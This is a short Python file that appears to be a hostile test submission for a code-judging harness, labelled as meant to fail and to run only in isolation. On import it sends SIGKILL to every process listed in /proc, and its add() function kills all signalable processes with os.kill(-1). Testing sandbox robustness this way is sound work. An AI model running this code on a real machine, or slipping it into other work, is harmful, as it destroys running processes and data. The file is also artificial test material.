# MUST: fail, only in isolation. Ends every process that it may signal: the judge must not be one.
# ruff: noqa: ANN001, ANN201, PTH208, SIM105
# mypy: ignore-errors
import os
import signal

for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != os.getpid():
        try:
            os.kill(int(entry), signal.SIGKILL)
        except OSError:
            pass


def add(a, b):
    os.kill(-1, signal.SIGKILL)
    return 0
